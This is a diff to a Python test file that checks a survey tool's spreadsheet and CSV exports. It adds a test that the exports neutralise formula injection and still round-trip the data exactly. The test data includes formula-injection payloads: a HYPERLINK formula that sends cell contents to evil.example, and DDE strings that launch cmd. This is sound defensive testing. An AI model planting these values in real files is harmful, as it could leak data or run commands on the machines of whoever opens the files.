@@ -13,7 +13,10 @@ import sqlalchemy as sa
 
 from peerkit.store import Store, StoreError
 from peerkit.transfer import (
+    CODEBOOK_COLUMNS,
     TIDY_COLUMNS,
+    neutralize_cell,
+    restore_cell,
     TransferError,
     check_file,
     coerce_value,
@@ -195,8 +198,13 @@ def test_xlsx_layout(store: Store, instruments, tmp_path: Path) -> None:
 
     sid = _populate(store, instruments)
     wb = load_workbook(export_session(store, sid, tmp_path / "out.xlsx"))
-    assert wb.sheetnames[:2] == ["README", "participants"]
-    assert sorted(wb.sheetnames[2:]) == ["checks", "choice", "freq", "quiz", "reflect", "sia"]
+    assert wb.sheetnames[:2] == ["README", "participants"] and wb.sheetnames[-1] == "codebook"
+    assert sorted(wb.sheetnames[2:-1]) == ["checks", "choice", "freq", "quiz", "reflect", "sia"]
+    book = list(wb["codebook"].iter_rows(values_only=True))
+    assert book[0] == tuple(CODEBOOK_COLUMNS)
+    by_item = {(r[0], r[3]): r for r in book[1:]}
+    assert by_item[("reflect", "r1")][4] == "Reflection one"
+    assert by_item[("sia", "p1")][5] == "sia" and "S = " in by_item[("sia", "p1")][6]
     readme = "\n".join(str(c) for row in wb["README"].iter_rows(values_only=True) for c in row if c)
     for column in TIDY_COLUMNS:
         assert column in readme
@@ -494,3 +502,62 @@ def test_export_errors(store: Store, tmp_path: Path) -> None:
     with pytest.raises(StoreError, match="no session"):
         export_session(store, 9999, tmp_path / "out.csv")
     assert not list(tmp_path.glob(".*tmp"))
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-1",
+    "- item one\n- item two",
+    "'already quoted",
+    "''two quotes",
+    "=",
+    "\t=1+2 after a tab",
+    "\r=1+2 after a carriage return",
+    "plain = text in the middle",
+]
+
+
+def test_neutralize_and_restore_are_exact_inverses() -> None:
+    for text in HOSTILE + ["", "'", "'a", "a'", "x=1", "ordinary"]:
+        out = neutralize_cell(text)
+        assert restore_cell(out) == text
+        assert not out or out[0] not in "=+-@\t\r", out
+    assert neutralize_cell("=1+1") == "'=1+1" and neutralize_cell("-1") == "'-1"
+    assert neutralize_cell("ordinary") == "ordinary" and neutralize_cell("'tis") == "''tis"
+    assert restore_cell("'tis") == "'tis"  # an apostrophe we did not add stays
+
+
+def test_csv_neutralises_formulas_and_round_trips_hostile_text(store: Store, instruments, tmp_path: Path) -> None:
+    s = store.create_session("=HYPERLINK(\"x\") workshop", "facilitator pass")
+    people = [store.join(s.id, name, "other") for name in
+              ("=cmd|' /C calc'!A0", "+Plus", "-Minus", "@At", "'Quote", "Ordinary")]
+    for k, person in enumerate(people):
+        store.submit(person.id, instruments["reflect"], {"r1": HOSTILE[k], "r2": HOSTILE[-1 - k]})
+    path = export_session(store, s.id, tmp_path / "hostile.csv")
+    with open(path, encoding="utf-8", newline="") as fh:
+        cells = [c for row in csv.reader(fh) for c in row]
+    risky = [c for c in cells if c and c[0] in "=+-@\t\r"]
+    assert risky == []
+    assert "'=HYPERLINK(\"x\") workshop" in cells and "'-1" in cells and "'- item one\n- item two" in cells
+    before = {(p.display_name, r.item_id): r.value
+              for p in people for r in store.responses_frame(s.id).itertuples() if r.participant_id == p.id}
+    store.purge_session(s.id)
+    new = import_file(store, path, passcode="new pass").session
+    assert new.title == '=HYPERLINK("x") workshop'
+    after = {(r.display_name, r.item_id): r.value for r in store.responses_frame(new.id).itertuples()}
+    assert after == before
+    assert {p.display_name for p in store.participants(new.id)} == {p.display_name for p in people}
+
+
+def test_exports_carry_item_text_and_answer_labels(store: Store, instruments, tmp_path: Path) -> None:
+    sid = _populate(store, instruments)
+    rows = list(csv.DictReader(open(export_session(store, sid, tmp_path / "out.csv"), encoding="utf-8",
+                                    newline="")))
+    by = {(r["display_name"], r["instrument_id"], r["occasion"], r["item_id"]): r for r in rows}
+    assert by[("Olu", "reflect", "", "r1")]["item_text"] == "Reflection one"
+    assert by[("Olu", "reflect", "", "r1")]["value_label"] == ""  # text answers are their own label
+    sia = by[("Sue", "sia", "", "p1")]
+    assert sia["item_text"] and sia["value_label"].startswith("S")
+    assert by[("Sue", "checks", "post", "c4")]["value_label"] == "ticked"
